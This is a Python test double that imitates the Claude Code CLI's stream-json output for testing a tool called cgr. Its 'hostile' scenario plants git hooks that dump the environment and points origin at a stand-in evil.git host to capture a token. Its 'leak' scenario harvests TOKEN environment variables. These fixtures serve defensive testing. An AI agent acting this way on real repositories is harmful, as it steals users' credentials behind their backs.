#!/usr/bin/env python3
"""A scripted stand-in for ``claude -p --output-format stream-json --verbose``.

It behaves like the real CLI where cgr depends on it: the prompt comes on stdin, the first
line is ``system/init`` with a session id, each content block is its own ``assistant`` line,
the ``result`` line carries the totals, ``--resume`` only finds sessions started from the
same working directory. An unknown session gets what the real CLI (2.1.x) prints: no init
line, one ``result`` line (``error_during_execution``, ``is_error``, a new session id, the
message "No conversation found with session ID: <id>" in ``errors``) and exit 1.

The scenario comes from ``FAKE_CLAUDE_SCENARIO`` (handed through cgr's env pass-through);
``FAKE_CLAUDE_STATE`` is a directory where it keeps sessions and records each call (argv,
cwd, environment, stdin) for the tests to inspect.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import time
import uuid
from pathlib import Path


def emit(event: dict[str, object]) -> None:
    sys.stdout.write(json.dumps(event) + "\n")
    sys.stdout.flush()


def assistant(msg_id: str, block: dict[str, object], usage: dict[str, int]) -> None:
    emit(
        {
            "type": "assistant",
            "message": {
                "id": msg_id,
                "type": "message",
                "role": "assistant",
                "model": "claude-fake",
                "content": [block],
                "usage": usage,
            },
            "session_id": SESSION,
        }
    )


def result(
    text: str, *, subtype: str = "success", is_error: bool = False, turns: int = 3, **extra: object
) -> None:
    emit(
        {
            "type": "result",
            "subtype": subtype,
            "is_error": is_error,
            "duration_ms": 1234,
            "duration_api_ms": 1000,
            "num_turns": turns,
            "result": text,
            "session_id": SESSION,
            "total_cost_usd": 0.0421,
            "usage": {
                "input_tokens": 1200,
                "cache_creation_input_tokens": 300,
                "cache_read_input_tokens": 4000,
                "output_tokens": 456,
            },
            **extra,
        }
    )


def write_file(name: str, content: str, n: int) -> None:
    Path(name).write_text(content, encoding="utf-8")
    assistant(
        f"msg_{n}",
        {
            "type": "tool_use",
            "id": f"toolu_{n}",
            "name": "Write",
            "input": {"file_path": str(Path.cwd() / name), "content": content},
        },
        {"input_tokens": 100, "output_tokens": 50},
    )


def arg_value(flag: str) -> str | None:
    if flag in sys.argv:
        index = sys.argv.index(flag)
        return sys.argv[index + 1] if index + 1 < len(sys.argv) else None
    return None


STATE = Path(os.environ.get("FAKE_CLAUDE_STATE", "/nonexistent"))
SCENARIO = os.environ.get("FAKE_CLAUDE_SCENARIO", "success")
if sys.argv[1:] == ["--version"]:
    # What the real CLI prints; FAKE_CLAUDE_VERSION picks the release it pretends to be
    # (2.1.197 by default: the oldest supported, whose flags cgr's argv tests expect).
    # Each question is recorded, so a test can count how often cgr asks.
    if "FAKE_CLAUDE_STATE" in os.environ:
        asked = STATE / "version_calls"
        asked.mkdir(parents=True, exist_ok=True)
        (asked / f"{time.time_ns()}").write_text(str(Path.cwd()), encoding="utf-8")
    print(os.environ.get("FAKE_CLAUDE_VERSION", "2.1.197") + " (Claude Code)")
    sys.exit(0)
CWD_KEY = hashlib.sha256(str(Path.cwd()).encode()).hexdigest()[:16]
prompt = sys.stdin.read()
resume = arg_value("--resume")
sessions = STATE / "sessions" / CWD_KEY
found = bool(resume) and (sessions / str(resume)).exists()
SESSION = str(resume) if found else str(uuid.uuid4())

calls = STATE / "calls"
calls.mkdir(parents=True, exist_ok=True)
record = {
    "argv": sys.argv[1:],
    "cwd": str(Path.cwd()),
    "env": dict(os.environ),
    "stdin": prompt,
    "scenario": SCENARIO,
    "session": SESSION,
    # The session this call continued (None: a new conversation, or --resume not found).
    "resumed": resume if found else None,
    "pid": os.getpid(),
}
(calls / f"{time.time_ns()}.json").write_text(json.dumps(record), encoding="utf-8")
if resume and not found:
    emit(
        {
            "type": "result",
            "subtype": "error_during_execution",
            "duration_ms": 0,
            "duration_api_ms": 0,
            "is_error": True,
            "num_turns": 0,
            "session_id": SESSION,
            "total_cost_usd": 0,
            "usage": {"input_tokens": 0, "cache_creation_input_tokens": 0,
                      "cache_read_input_tokens": 0, "output_tokens": 0},
            "permission_denials": [],
            "errors": [f"No conversation found with session ID: {resume}"],
        }
    )  # fmt: skip
    sys.exit(1)
sessions.mkdir(parents=True, exist_ok=True)
(sessions / SESSION).write_text(prompt, encoding="utf-8")

emit(
    {
        "type": "system",
        "subtype": "init",
        "cwd": str(Path.cwd()),
        "session_id": SESSION,
        "tools": ["Bash", "Edit", "Read", "Write"],
        "model": "claude-fake",
        "permissionMode": arg_value("--permission-mode") or "default",
    }
)
assistant("msg_0", {"type": "text", "text": "Let me look at the task."}, {"input_tokens": 50,
          "output_tokens": 10})  # fmt: skip

if SCENARIO == "success":
    write_file("hello.txt", "hello from the agent\n", 1)
    result("Added hello.txt with a greeting.")
elif SCENARIO == "fix_on_retry":
    # Writes a file the repository's check refuses; fixes it when cgr says the check
    # failed (the prompt of a fix attempt), as a real agent reading the output would.
    if "The repository's checks failed" in prompt:
        write_file("hello.txt", "hello, fixed\n", 1)
        result("Fixed hello.txt so the check passes.")
    else:
        write_file("hello.txt", "hello, broken\n", 1)
        result("Added hello.txt.")
elif SCENARIO == "slow":
    for n in range(1, 5):
        write_file(f"step{n}.txt", f"step {n}\n", n)
        time.sleep(0.4)
    result("Wrote four steps.")
elif SCENARIO == "slow_unique":
    # Files no other call writes (two runs in turn on one branch both have work), and the
    # first call holds its run open until the test opens STATE/gate: a fixed sleep was once
    # too short on a loaded CI machine for a second `cgr run` to reach the shared checkout's
    # lock while this one still held it. Later calls find the gate open and go straight on.
    gate = STATE / "gate"
    for n in range(1, 4):
        write_file(f"work-{os.getpid()}-{n}.txt", f"step {n}\n", n)
        time.sleep(0.5)
    deadline = time.monotonic() + 120
    while not gate.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    result("Wrote three steps.")
elif SCENARIO == "hostile":
    # An agent that tries to get the token out of cgr's later git commands: hooks that dump
    # their environment, a new origin, and a URL rewrite of the real remote.
    real = subprocess.run(["git", "remote", "get-url", "origin"], capture_output=True,
                          text=True, check=True).stdout.strip()  # fmt: skip
    hooks = Path(".git/hooks")
    for hook in ("pre-push", "post-commit", "pre-commit", "reference-transaction"):
        script = hooks / hook
        script.write_text(f"#!/bin/sh\nenv > {STATE}/hook-{hook}.env\n", encoding="utf-8")
        script.chmod(0o755)
    base = real.rsplit("/", 2)[0] + "/"
    subprocess.run(["git", "config", "url.http://127.0.0.1:9/.insteadOf", base], check=True)
    subprocess.run(["git", "remote", "set-url", "origin", "http://127.0.0.1:9/evil.git"],
                   check=True)  # fmt: skip
    write_file("hello.txt", "hello\n", 1)
    result("Done.")
elif SCENARIO == "followup":
    write_file("followup.txt", f"follow-up work for session {SESSION}\n", 1)
    result("Addressed the review: added followup.txt.")
elif SCENARIO == "commits":
    write_file("committed.txt", "the agent committed this\n", 1)
    subprocess.run(["git", "add", "committed.txt"], check=True)
    subprocess.run(["git", "commit", "-q", "-m", "agent: add committed.txt"], check=True)
    write_file("leftover.txt", "left for cgr to commit\n", 2)
    result("Committed committed.txt; left leftover.txt.")
elif SCENARIO == "no_changes":
    result("Nothing needed changing.")
elif SCENARIO == "error":
    write_file("half.txt", "half-done\n", 1)
    result(
        "API Error: 500 Internal server error",
        is_error=True,
        api_error_status=500,
    )
    sys.exit(1)
elif SCENARIO == "max_turns":
    write_file("half.txt", "half-done\n", 1)
    result("", subtype="error_max_turns", is_error=True, turns=2)
    sys.exit(1)
elif SCENARIO == "hang":
    write_file("half.txt", "half-done\n", 1)
    time.sleep(120)
elif SCENARIO == "watchdog":
    write_file("half.txt", "half-done\n", 1)
    for _ in range(200):
        assistant("msg_loop", {"type": "text", "text": "RETRY LOOP: same error again"},
                  {"input_tokens": 1, "output_tokens": 1})  # fmt: skip
        time.sleep(0.05)
    time.sleep(120)
elif SCENARIO == "cost":
    for n in range(1, 200):
        # 100k input tokens per message at the configured price: the ceiling is passed fast.
        assistant(f"msg_{n}", {"type": "text", "text": f"thinking {n}"},
                  {"input_tokens": 100_000, "output_tokens": 1_000})  # fmt: skip
        write_file(f"part{n}.txt", "x\n", 1000 + n)
        time.sleep(0.05)
    time.sleep(120)
elif SCENARIO == "leak":
    # An agent that prints whatever it can find that looks like a token.
    leaked = [v for k, v in os.environ.items() if "TOKEN" in k]
    write_file("hello.txt", "hello\n", 1)
    fake = "ghp_" + "Z" * 36  # a token-shaped string: must be redacted wherever it lands
    assistant("msg_9", {"type": "text", "text": f"I saw {fake} in a file"},
              {"input_tokens": 1, "output_tokens": 1})  # fmt: skip
    result(f"Done. Found tokens: {leaked}. Also saw {fake}.")
else:
    sys.stderr.write(f"unknown scenario {SCENARIO}\n")
    sys.exit(3)
